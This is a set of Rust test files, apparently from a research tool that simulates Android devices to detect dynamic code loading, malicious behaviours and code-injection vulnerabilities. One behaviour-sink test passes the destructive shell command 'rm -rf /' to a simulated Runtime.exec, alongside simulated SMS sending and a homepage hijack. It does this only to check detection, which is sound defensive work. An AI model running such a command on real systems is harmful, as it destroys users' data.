                "(Ljava/lang/String;)V",
            ),
            vec![2, 1],
        );
        m.ret_void();
    });
    device.app_write(pkg, &staged, payload.to_bytes()).unwrap();
    assert!(process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate"));
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].kind, DclKind::PathClassLoader);
    assert!(events[0].kind.is_dex());
}

#[test]
fn failed_dex_load_logs_unsuccessful_event_and_loader_delegates() {
    // Loading a missing file: the constructor survives (matching Android,
    // where failure surfaces at class resolution), the event is recorded
    // as unsuccessful, and loadClass falls back to the app space.
    let pkg = "com.missing.payload";
    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, "/data/data/com.missing.payload/files/nope.dex");
        m.const_str(2, "/data/data/com.missing.payload/odex");
        m.new_instance(3, "dalvik.system.DexClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "<init>",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![3, 1, 2],
        );
        // Resolving a class that only exists in the APP space still works
        // (parent delegation).
        m.const_str(4, format!("{pkg}.Main"));
        m.invoke_virtual(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "loadClass",
                "(Ljava/lang/String;)Ljava/lang/Class;",
            ),
            vec![3, 4],
        );
        m.ret_void();
    });
    assert!(process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate"));
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(!events[0].success);
    assert_eq!(process.dynamic_space_count(), 0);
    assert!(device.hooks.intercepted().is_empty());
}

#[test]
fn corrupt_payload_is_unsuccessful_but_not_fatal() {
    let pkg = "com.corrupt.payload";
    let staged = format!("/data/data/{pkg}/files/bad.dex");
    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, &staged);
        m.const_str(2, format!("/data/data/{pkg}/odex"));
        m.new_instance(3, "dalvik.system.DexClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "<init>",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![3, 1, 2],
        );
        m.ret_void();
    });
    device
        .app_write(pkg, &staged, b"this is not a dex file".to_vec())
        .unwrap();
    assert!(process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate"));
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(!events[0].success);
}

#[test]
fn dcl_from_dynamically_loaded_code_is_also_intercepted() {
    // Chained loading: stage A loads stage B which loads stage C — the
    // hooks see every hop, and the call-site attribution names the
    // *loaded* class for the inner hop.
    let pkg = "com.chain.loader";
    let stage_c = {
        let mut b = DexBuilder::new();
        b.class("chain.C", "java.lang.Object").default_constructor();
        b.build()
    };
    let stage_b = {
        let mut b = DexBuilder::new();
        let c = b.class("chain.B", "java.lang.Object");
        c.default_constructor();
        let m = c.method("run", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.const_str(1, format!("/data/data/{pkg}/files/c.dex"));
        m.const_str(2, format!("/data/data/{pkg}/odex"));
        m.new_instance(3, "dalvik.system.DexClassLoader");
        m.invoke_direct(
            MethodRef::new(
                "dalvik.system.DexClassLoader",
                "<init>",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![3, 1, 2],
        );
        m.ret_void();
        b.build()
    };

    let (mut device, mut process) = device_with(pkg, |b| {
        let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
        m.registers(12);
        dydroid_workload::emit::dex_load_and_run(
            m,
            &format!("/data/data/{pkg}/files/b.dex"),
            &format!("/data/data/{pkg}/odex"),
            "chain.B",
            "run",
        );
        m.ret_void();
    });
    device
        .app_write(
            pkg,
            &format!("/data/data/{pkg}/files/b.dex"),
            stage_b.to_bytes(),
        )
        .unwrap();
    device
        .app_write(
            pkg,
            &format!("/data/data/{pkg}/files/c.dex"),
            stage_c.to_bytes(),
        )
        .unwrap();
    assert!(process.run_entry(&mut device, &format!("{pkg}.Main"), "onCreate"));
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 2, "both hops observed");
    assert!(events[0].path.ends_with("b.dex"));
    assert!(events[1].path.ends_with("c.dex"));
    // The inner hop's call site is the dynamically loaded class itself.
    assert_eq!(events[1].call_site_class, "chain.B");
    assert_eq!(process.dynamic_space_count(), 2);
    assert_eq!(device.hooks.intercepted().len(), 2);
}
