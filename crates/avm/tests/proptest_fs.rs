//! Property tests for the filesystem permission model: the invariants the
//! vulnerability analysis depends on must hold under arbitrary operation
//! sequences.

use dydroid_avm::fs::{FileSystem, FsPolicy};
use dydroid_avm::Owner;
use proptest::prelude::*;

#[derive(Debug, Clone)]
enum Op {
    Write {
        actor: usize,
        path: usize,
        data: u8,
    },
    Append {
        actor: usize,
        path: usize,
        data: u8,
    },
    Delete {
        actor: usize,
        path: usize,
    },
    Rename {
        actor: usize,
        from: usize,
        to: usize,
    },
}

const ACTORS: [&str; 3] = ["com.alpha", "com.beta", "com.gamma"];

fn path_pool() -> Vec<String> {
    let mut pool = Vec::new();
    for pkg in ACTORS {
        pool.push(format!("/data/data/{pkg}/files/a"));
        pool.push(format!("/data/data/{pkg}/cache/b"));
    }
    pool.push("/mnt/sdcard/shared/x".to_string());
    pool.push("/mnt/sdcard/shared/y".to_string());
    pool.push("/system/lib/libc.so".to_string());
    pool
}

fn op() -> impl Strategy<Value = Op> {
    let n = path_pool().len();
    prop_oneof![
        (0..3usize, 0..n, any::<u8>()).prop_map(|(actor, path, data)| Op::Write {
            actor,
            path,
            data
        }),
        (0..3usize, 0..n, any::<u8>()).prop_map(|(actor, path, data)| Op::Append {
            actor,
            path,
            data
        }),
        (0..3usize, 0..n).prop_map(|(actor, path)| Op::Delete { actor, path }),
        (0..3usize, 0..n, 0..n).prop_map(|(actor, from, to)| Op::Rename { actor, from, to }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Under any operation sequence on a pre-KitKat device:
    /// - `/system` is never modified by an app;
    /// - one app's internal storage is never modified by another app;
    /// - external storage accepts everyone (the Table IX vector);
    /// - no operation panics.
    #[test]
    fn permission_invariants_hold(ops in prop::collection::vec(op(), 0..60)) {
        let pool = path_pool();
        let mut fs = FileSystem::new();
        fs.write_system("/system/lib/libc.so", vec![0xC0], Owner::System);
        let policy = FsPolicy { api_level: 18, external_writers: &|_| false };

        // Shadow model: who owns the *content* at each path.
        let mut shadow: std::collections::HashMap<String, (usize, Vec<u8>)> =
            std::collections::HashMap::new();

        for op in ops {
            match op {
                Op::Write { actor, path, data } => {
                    let p = &pool[path];
                    let owner = Owner::app(ACTORS[actor]);
                    let result = fs.write(p, vec![data], &owner, &policy);
                    let own_internal = p.starts_with(&format!("/data/data/{}/", ACTORS[actor]));
                    let external = p.starts_with("/mnt/sdcard/");
                    prop_assert_eq!(result.is_ok(), own_internal || external, "{}", p);
                    if result.is_ok() {
                        shadow.insert(p.clone(), (actor, vec![data]));
                    }
                }
                Op::Append { actor, path, data } => {
                    let p = &pool[path];
                    let owner = Owner::app(ACTORS[actor]);
                    let before = shadow.get(p).cloned();
                    let result = fs.append(p, &[data], &owner, &policy);
                    if result.is_ok() {
                        let mut bytes = before.map(|(_, b)| b).unwrap_or_default();
                        bytes.push(data);
                        shadow.insert(p.clone(), (actor, bytes));
                    }
                }
                Op::Delete { actor, path } => {
                    let p = &pool[path];
                    let owner = Owner::app(ACTORS[actor]);
                    if fs.delete(p, &owner, &policy).is_ok() {
                        shadow.remove(p);
                    }
                }
                Op::Rename { actor, from, to } => {
                    let f = &pool[from];
                    let t = &pool[to];
                    let owner = Owner::app(ACTORS[actor]);
                    if fs.rename(f, t, &owner, &policy).is_ok() {
                        if let Some(entry) = shadow.remove(f) {
                            shadow.insert(t.clone(), entry);
                        }
                    }
                }
            }
            // Global invariants after every step.
            prop_assert_eq!(fs.read("/system/lib/libc.so").unwrap(), &[0xC0][..]);
        }

        // Shadow model and filesystem agree on every app-owned path.
        for (path, (_, bytes)) in &shadow {
            prop_assert_eq!(fs.read(path).unwrap(), bytes.as_slice(), "{}", path);
        }
    }

    /// Reads never fail for existing files and never modify state.
    #[test]
    fn reads_are_pure(writes in prop::collection::vec((0..3usize, any::<u8>()), 1..10)) {
        let mut fs = FileSystem::new();
        let policy = FsPolicy { api_level: 18, external_writers: &|_| false };
        for (i, (actor, data)) in writes.iter().enumerate() {
            let pkg = ACTORS[*actor];
            let path = format!("/data/data/{pkg}/files/f{i}");
            fs.write(&path, vec![*data], &Owner::app(pkg), &policy).expect("own storage");
        }
        let count = fs.file_count();
        let bytes = fs.total_bytes();
        for i in 0..writes.len() {
            for pkg in ACTORS {
                let path = format!("/data/data/{pkg}/files/f{i}");
                let _ = fs.read(&path);
            }
        }
        prop_assert_eq!(fs.file_count(), count);
        prop_assert_eq!(fs.total_bytes(), bytes);
    }
}
