//! Direct coverage of the framework intrinsic surface, driven through
//! real bytecode: every instrumented API group of Section IV gets an
//! observable end-to-end check.

use dydroid_avm::events::{BehaviorEvent, Event};
use dydroid_avm::{Device, DeviceConfig, Process, Value};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{AccessFlags, DexFile, FieldRef, Manifest, MethodRef};

const PKG: &str = "com.cover.app";

/// Runs `build`-emitted bytecode as a static entry and returns the
/// device + process + outcome.
fn run(build: impl FnOnce(&mut dydroid_dex::builder::MethodBuilder)) -> (Device, Process, bool) {
    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{PKG}.T"), "java.lang.Object");
        let m = c.method("entry", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(12);
        build(m);
        m.ret_void();
    }
    let dex = b.build();
    let mut device = Device::new(DeviceConfig::default());
    // An installed app record so assets/permissions resolve.
    let manifest = Manifest::new(PKG);
    let apk = dydroid_dex::Apk::build(manifest.clone(), DexFile::new());
    device.install(&apk.to_bytes()).unwrap();
    let mut process = Process::new(PKG.to_string(), dex, &manifest);
    let ok = process.run_entry(&mut device, &format!("{PKG}.T"), "entry");
    (device, process, ok)
}

fn sput_result(m: &mut dydroid_dex::builder::MethodBuilder, src: u16) {
    m.sput(src, FieldRef::new("probe.G", "out", "Ljava/lang/String;"));
}

fn probed(process: &Process) -> Option<&Value> {
    process
        .statics
        .get(&("probe.G".to_string(), "out".to_string()))
}

#[test]
fn file_lifecycle_exists_length_getpath() {
    let (device, process, ok) = run(|m| {
        // Write a file through FileOutputStream, then probe File APIs.
        m.new_instance(1, "java.io.FileOutputStream");
        m.const_str(2, "/data/data/com.cover.app/files/x.bin");
        m.invoke_direct(
            MethodRef::new(
                "java.io.FileOutputStream",
                "<init>",
                "(Ljava/lang/String;)V",
            ),
            vec![1, 2],
        );
        m.const_str(3, "hello");
        m.invoke_virtual(
            MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/lang/String;)V"),
            vec![1, 3],
        );
        m.new_instance(4, "java.io.File");
        m.invoke_direct(
            MethodRef::new("java.io.File", "<init>", "(Ljava/lang/String;)V"),
            vec![4, 2],
        );
        m.invoke_virtual(
            MethodRef::new("java.io.File", "getPath", "()Ljava/lang/String;"),
            vec![4],
        );
        m.move_result(5);
        sput_result(m, 5);
        m.invoke_virtual(MethodRef::new("java.io.File", "length", "()J"), vec![4]);
        m.move_result(6);
        m.sput(6, FieldRef::new("probe.G", "len", "J"));
        m.invoke_virtual(MethodRef::new("java.io.File", "exists", "()Z"), vec![4]);
        m.move_result(7);
        m.sput(7, FieldRef::new("probe.G", "exists", "Z"));
    });
    assert!(ok);
    assert!(device.fs.exists("/data/data/com.cover.app/files/x.bin"));
    assert_eq!(
        probed(&process),
        Some(&Value::Str(
            "/data/data/com.cover.app/files/x.bin".to_string()
        ))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "len".to_string())),
        Some(&Value::Int(5))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "exists".to_string())),
        Some(&Value::Int(1))
    );
}

#[test]
fn buffer_put_size_tostring() {
    let (_, process, ok) = run(|m| {
        m.new_instance(1, "java.io.Buffer");
        m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![1]);
        m.const_str(2, "abc");
        m.invoke_virtual(
            MethodRef::new("java.io.Buffer", "putString", "(Ljava/lang/String;)V"),
            vec![1, 2],
        );
        m.invoke_virtual(MethodRef::new("java.io.Buffer", "size", "()I"), vec![1]);
        m.move_result(3);
        m.sput(3, FieldRef::new("probe.G", "size", "I"));
        m.invoke_virtual(
            MethodRef::new("java.io.Buffer", "toString", "()Ljava/lang/String;"),
            vec![1],
        );
        m.move_result(4);
        sput_result(m, 4);
    });
    assert!(ok);
    assert_eq!(probed(&process), Some(&Value::Str("abc".to_string())));
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "size".to_string())),
        Some(&Value::Int(3))
    );
}

#[test]
fn string_helpers() {
    let (_, process, ok) = run(|m| {
        m.const_str(1, "imei=");
        m.const_str(2, "353918");
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.String",
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![1, 2],
        );
        m.move_result(3);
        sput_result(m, 3);
        m.invoke_virtual(MethodRef::new("java.lang.String", "length", "()I"), vec![3]);
        m.move_result(4);
        m.sput(4, FieldRef::new("probe.G", "len", "I"));
        m.invoke_virtual(
            MethodRef::new("java.lang.String", "startsWith", "(Ljava/lang/String;)Z"),
            vec![3, 1],
        );
        m.move_result(5);
        m.sput(5, FieldRef::new("probe.G", "starts", "Z"));
        m.invoke_virtual(
            MethodRef::new("java.lang.String", "contains", "(Ljava/lang/String;)Z"),
            vec![3, 2],
        );
        m.move_result(6);
        m.sput(6, FieldRef::new("probe.G", "contains", "Z"));
    });
    assert!(ok);
    assert_eq!(
        probed(&process),
        Some(&Value::Str("imei=353918".to_string()))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "len".to_string())),
        Some(&Value::Int(11))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "starts".to_string())),
        Some(&Value::Int(1))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "contains".to_string())),
        Some(&Value::Int(1))
    );
}

#[test]
fn privacy_sources_return_canned_values_and_log_api_events() {
    let sources: [(&str, &str, &str); 6] = [
        (
            "android.telephony.TelephonyManager",
            "getDeviceId",
            dydroid_avm::intrinsics::canned::IMEI,
        ),
        (
            "android.telephony.TelephonyManager",
            "getSubscriberId",
            dydroid_avm::intrinsics::canned::IMSI,
        ),
        (
            "android.telephony.TelephonyManager",
            "getSimSerialNumber",
            dydroid_avm::intrinsics::canned::ICCID,
        ),
        (
            "android.telephony.TelephonyManager",
            "getLine1Number",
            dydroid_avm::intrinsics::canned::LINE1,
        ),
        (
            "android.accounts.AccountManager",
            "getAccounts",
            dydroid_avm::intrinsics::canned::ACCOUNT,
        ),
        (
            "android.location.LocationManager",
            "getLastKnownLocation",
            dydroid_avm::intrinsics::canned::LOCATION,
        ),
    ];
    for (class, method, expected) in sources {
        let (device, process, ok) = run(|m| {
            m.invoke_static(
                MethodRef::new(class, method, "()Ljava/lang/String;"),
                vec![],
            );
            m.move_result(1);
            sput_result(m, 1);
        });
        assert!(ok, "{class}.{method}");
        assert_eq!(probed(&process), Some(&Value::Str(expected.to_string())));
        let logged = device.log.events().iter().any(
            |e| matches!(e, Event::Api { class: c, method: mm, .. } if c == class && mm == method),
        );
        assert!(logged, "{class}.{method} must log an Api event");
    }
}

#[test]
fn content_providers_return_rows() {
    for uri in [
        "content://contacts/people",
        "content://call_log/calls",
        "content://sms/inbox",
        "content://settings/global",
    ] {
        let (device, process, ok) = run(|m| {
            m.const_str(1, uri);
            m.invoke_static(
                MethodRef::new(
                    "android.content.ContentResolver",
                    "query",
                    "(Ljava/lang/String;)Ljava/lang/String;",
                ),
                vec![1],
            );
            m.move_result(2);
            sput_result(m, 2);
        });
        assert!(ok);
        let value = probed(&process)
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string();
        assert!(!value.is_empty(), "{uri} must return rows");
        let logged = device.log.events().iter().any(|e| {
            matches!(e, Event::Api { method, .. } if method.contains(uri.split('/').next().unwrap_or("")))
        });
        assert!(logged, "{uri} query must be logged");
    }
}

#[test]
fn behavior_sinks_emit_events() {
    let (device, _, ok) = run(|m| {
        m.const_str(1, "+155555");
        m.const_str(2, "hi");
        m.invoke_static(
            MethodRef::new(
                "android.telephony.SmsManager",
                "sendTextMessage",
                "(Ljava/lang/String;Ljava/lang/String;)V",
            ),
            vec![1, 2],
        );
        m.const_str(3, "Buy now");
        m.invoke_static(
            MethodRef::new(
                "android.app.NotificationManager",
                "notify",
                "(Ljava/lang/String;)V",
            ),
            vec![3],
        );
        m.const_str(4, "Game");
        m.invoke_static(
            MethodRef::new(
                "android.content.pm.ShortcutManager",
                "requestPinShortcut",
                "(Ljava/lang/String;)V",
            ),
            vec![4],
        );
        m.const_str(5, "http://ads.example.com");
        m.invoke_static(
            MethodRef::new(
                "android.provider.Browser",
                "setHomepage",
                "(Ljava/lang/String;)V",
            ),
            vec![5],
        );
        m.const_str(6, "rm -rf /");
        m.invoke_static(
            MethodRef::new("java.lang.Runtime", "exec", "(Ljava/lang/String;)V"),
            vec![6],
        );
    });
    assert!(ok);
    let behaviors: Vec<&BehaviorEvent> = device.log.behaviors(PKG).collect();
    assert!(behaviors
        .iter()
        .any(|b| matches!(b, BehaviorEvent::SmsSent { number, body }
        if number == "+155555" && body == "hi")));
    assert!(behaviors
        .iter()
        .any(|b| matches!(b, BehaviorEvent::Notification { text } if text == "Buy now")));
    assert!(behaviors
        .iter()
        .any(|b| matches!(b, BehaviorEvent::ShortcutInstalled { label } if label == "Game")));
    assert!(behaviors
        .iter()
        .any(|b| matches!(b, BehaviorEvent::HomepageChanged { url } if url.contains("ads"))));
    assert!(behaviors
        .iter()
        .any(|b| matches!(b, BehaviorEvent::RemoteCommand { command } if command == "rm -rf /")));
}

#[test]
fn reflection_chain_executes_target() {
    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{PKG}.R"), "java.lang.Object");
        c.default_constructor();
        let m = c.method("target", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(1, 7);
        m.sput(1, FieldRef::new("probe.G", "via_reflection", "I"));
        m.ret_void();
        let m = c.method("entry", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(8);
        m.const_str(1, format!("{PKG}.R"));
        m.invoke_static(
            MethodRef::new(
                "java.lang.Class",
                "forName",
                "(Ljava/lang/String;)Ljava/lang/Class;",
            ),
            vec![1],
        );
        m.move_result(2);
        m.invoke_virtual(
            MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
            vec![2],
        );
        m.move_result(3);
        m.const_str(4, "target");
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.Class",
                "getMethod",
                "(Ljava/lang/String;)Ljava/lang/reflect/Method;",
            ),
            vec![2, 4],
        );
        m.move_result(5);
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.reflect.Method",
                "invoke",
                "(Ljava/lang/Object;)Ljava/lang/Object;",
            ),
            vec![5, 3],
        );
        m.ret_void();
    }
    let dex = b.build();
    let mut device = Device::new(DeviceConfig::default());
    let mut process = Process::new(PKG.to_string(), dex, &Manifest::new(PKG));
    assert!(process.run_entry(&mut device, &format!("{PKG}.R"), "entry"));
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "via_reflection".to_string())),
        Some(&Value::Int(7))
    );
}

#[test]
fn class_for_name_missing_class_throws() {
    let (device, _, ok) = run(|m| {
        m.const_str(1, "com.ghost.Nope");
        m.invoke_static(
            MethodRef::new(
                "java.lang.Class",
                "forName",
                "(Ljava/lang/String;)Ljava/lang/Class;",
            ),
            vec![1],
        );
    });
    assert!(!ok);
    assert!(device.log.events().iter().any(|e| matches!(
        e,
        Event::Crash { reason, .. } if reason.contains("ClassNotFoundException")
    )));
}

#[test]
fn environment_probes_reflect_device_state() {
    let (_, process, ok) = run(|m| {
        m.invoke_static(
            MethodRef::new("android.net.ConnectivityManager", "isConnected", "()Z"),
            vec![],
        );
        m.move_result(1);
        m.sput(1, FieldRef::new("probe.G", "net", "Z"));
        m.invoke_static(
            MethodRef::new("android.provider.Settings", "getAirplaneMode", "()I"),
            vec![],
        );
        m.move_result(2);
        m.sput(2, FieldRef::new("probe.G", "airplane", "I"));
        m.invoke_static(
            MethodRef::new(
                "android.location.LocationManager",
                "isProviderEnabled",
                "()Z",
            ),
            vec![],
        );
        m.move_result(3);
        m.sput(3, FieldRef::new("probe.G", "loc", "Z"));
        m.invoke_static(
            MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
            vec![],
        );
        m.move_result(4);
        m.sput(4, FieldRef::new("probe.G", "time", "J"));
    });
    assert!(ok);
    let get = |k: &str| {
        process
            .statics
            .get(&("probe.G".to_string(), k.to_string()))
            .cloned()
    };
    assert_eq!(get("net"), Some(Value::Int(1)));
    assert_eq!(get("airplane"), Some(Value::Int(0)));
    assert_eq!(get("loc"), Some(Value::Int(1)));
    assert_eq!(
        get("time"),
        Some(Value::Int(DeviceConfig::default().time_ms))
    );
}

#[test]
fn context_path_helpers() {
    let (_, process, ok) = run(|m| {
        m.invoke_static(
            MethodRef::new(
                "android.content.Context",
                "getFilesDir",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        sput_result(m, 1);
        m.invoke_static(
            MethodRef::new(
                "android.os.Environment",
                "getExternalStorageDirectory",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(2);
        m.sput(2, FieldRef::new("probe.G", "ext", "Ljava/lang/String;"));
    });
    assert!(ok);
    assert_eq!(
        probed(&process),
        Some(&Value::Str(format!("/data/data/{PKG}/files")))
    );
    assert_eq!(
        process
            .statics
            .get(&("probe.G".to_string(), "ext".to_string())),
        Some(&Value::Str("/mnt/sdcard".to_string()))
    );
}

#[test]
fn location_source_hidden_when_service_off() {
    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{PKG}.L"), "java.lang.Object");
        let m = c.method("entry", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.location.LocationManager",
                "getLastKnownLocation",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        sput_result(m, 1);
        m.ret_void();
    }
    let dex = b.build();
    let config = DeviceConfig {
        location_enabled: false,
        ..Default::default()
    };
    let mut device = Device::new(config);
    let mut process = Process::new(PKG.to_string(), dex, &Manifest::new(PKG));
    assert!(process.run_entry(&mut device, &format!("{PKG}.L"), "entry"));
    assert_eq!(probed(&process), Some(&Value::Null));
}

#[test]
fn wrapped_streams_preserve_download_provenance() {
    // Table I's InputStream→InputStream / OutputStream→OutputStream rules:
    // a BufferedInputStream around a URL stream and a BufferedOutputStream
    // around a FileOutputStream must keep the URL→File chain intact.
    let (device, _, ok) = run(|m| {
        m.new_instance(1, "java.net.URL");
        m.const_str(2, "http://cdn.wrap.com/p.bin");
        m.invoke_direct(
            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
            vec![1, 2],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.net.URL",
                "openConnection",
                "()Ljava/net/URLConnection;",
            ),
            vec![1],
        );
        m.move_result(2);
        m.invoke_virtual(
            MethodRef::new(
                "java.net.HttpURLConnection",
                "getInputStream",
                "()Ljava/io/InputStream;",
            ),
            vec![2],
        );
        m.move_result(3);
        // Wrap the network stream.
        m.new_instance(4, "java.io.BufferedInputStream");
        m.invoke_direct(
            MethodRef::new(
                "java.io.BufferedInputStream",
                "<init>",
                "(Ljava/io/InputStream;)V",
            ),
            vec![4, 3],
        );
        m.new_instance(5, "java.io.Buffer");
        m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![5]);
        m.invoke_virtual(
            MethodRef::new("java.io.BufferedInputStream", "read", "(Ljava/io/Buffer;)I"),
            vec![4, 5],
        );
        // Wrap the file sink too.
        m.new_instance(6, "java.io.FileOutputStream");
        m.const_str(7, "/data/data/com.cover.app/files/wrapped.dex");
        m.invoke_direct(
            MethodRef::new(
                "java.io.FileOutputStream",
                "<init>",
                "(Ljava/lang/String;)V",
            ),
            vec![6, 7],
        );
        m.new_instance(8, "java.io.BufferedOutputStream");
        m.invoke_direct(
            MethodRef::new(
                "java.io.BufferedOutputStream",
                "<init>",
                "(Ljava/io/OutputStream;)V",
            ),
            vec![8, 6],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.io.BufferedOutputStream",
                "write",
                "(Ljava/io/Buffer;)V",
            ),
            vec![8, 5],
        );
    });
    // Host the resource first? The run() helper has no network fixture, so
    // the fetch 404s and the entry crashes — re-run with a device that has
    // the resource instead.
    let _ = (device, ok);

    // Full variant with the resource hosted:
    let mut b = DexBuilder::new();
    {
        let c = b.class(format!("{PKG}.W"), "java.lang.Object");
        let m = c.method("entry", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(12);
        m.new_instance(1, "java.net.URL");
        m.const_str(2, "http://cdn.wrap.com/p.bin");
        m.invoke_direct(
            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
            vec![1, 2],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.net.URL",
                "openConnection",
                "()Ljava/net/URLConnection;",
            ),
            vec![1],
        );
        m.move_result(2);
        m.invoke_virtual(
            MethodRef::new(
                "java.net.HttpURLConnection",
                "getInputStream",
                "()Ljava/io/InputStream;",
            ),
            vec![2],
        );
        m.move_result(3);
        m.new_instance(4, "java.io.BufferedInputStream");
        m.invoke_direct(
            MethodRef::new(
                "java.io.BufferedInputStream",
                "<init>",
                "(Ljava/io/InputStream;)V",
            ),
            vec![4, 3],
        );
        m.new_instance(5, "java.io.Buffer");
        m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![5]);
        m.invoke_virtual(
            MethodRef::new("java.io.BufferedInputStream", "read", "(Ljava/io/Buffer;)I"),
            vec![4, 5],
        );
        m.new_instance(6, "java.io.FileOutputStream");
        m.const_str(7, "/data/data/com.cover.app/files/wrapped.dex");
        m.invoke_direct(
            MethodRef::new(
                "java.io.FileOutputStream",
                "<init>",
                "(Ljava/lang/String;)V",
            ),
            vec![6, 7],
        );
        m.new_instance(8, "java.io.BufferedOutputStream");
        m.invoke_direct(
            MethodRef::new(
                "java.io.BufferedOutputStream",
                "<init>",
                "(Ljava/io/OutputStream;)V",
            ),
            vec![8, 6],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.io.BufferedOutputStream",
                "write",
                "(Ljava/io/Buffer;)V",
            ),
            vec![8, 5],
        );
        m.ret_void();
    }
    let dex = b.build();
    let mut device = Device::new(DeviceConfig::default());
    device.net.host("cdn.wrap.com", "/p.bin", vec![1, 2, 3]);
    let manifest = Manifest::new(PKG);
    let apk = dydroid_dex::Apk::build(manifest.clone(), DexFile::new());
    device.install(&apk.to_bytes()).unwrap();
    let mut process = Process::new(PKG.to_string(), dex, &manifest);
    assert!(process.run_entry(&mut device, &format!("{PKG}.W"), "entry"));
    assert!(
        device
            .hooks
            .flow
            .is_remote("/data/data/com.cover.app/files/wrapped.dex"),
        "provenance must survive stream wrapping"
    );
    assert_eq!(
        device
            .fs
            .read("/data/data/com.cover.app/files/wrapped.dex")
            .unwrap(),
        &[1, 2, 3]
    );
}
