//! The Grab'n-Run-style verified-loading extension: a
//! `SecureDexClassLoader` that takes the payload's expected CRC-32 and
//! refuses tampered files — the mitigation Falsina et al. (cited by the
//! paper) propose for the Table IX code-injection vulnerabilities.

use dydroid_avm::{Device, DeviceConfig, Owner, Value};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::checksum::crc32;
use dydroid_dex::{AccessFlags, Apk, Component, DexFile, FieldRef, Manifest, MethodRef};

fn payload(marker: i64) -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class("com.plugin.Module", "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_int(1, marker);
    m.sput(1, FieldRef::new("probe.G", "marker", "I"));
    m.ret_void();
    b.build()
}

/// Builds a hardened app that loads `staged` via SecureDexClassLoader
/// pinned to `expected_crc`.
fn hardened_app(pkg: &str, staged: &str, expected_crc: u32) -> Apk {
    let mut manifest = Manifest::new(pkg);
    manifest.min_sdk = 14;
    manifest.add_permission(dydroid_dex::manifest::WRITE_EXTERNAL_STORAGE);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));

    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(12);
    m.const_str(1, staged);
    m.const_str(2, format!("/data/data/{pkg}/odex"));
    m.const_int(3, i64::from(expected_crc));
    m.new_instance(4, "dalvik.system.SecureDexClassLoader");
    m.invoke_direct(
        MethodRef::new(
            "dalvik.system.SecureDexClassLoader",
            "<init>",
            "(Ljava/lang/String;Ljava/lang/String;I)V",
        ),
        vec![4, 1, 2, 3],
    );
    m.const_str(5, "com.plugin.Module");
    m.invoke_virtual(
        MethodRef::new(
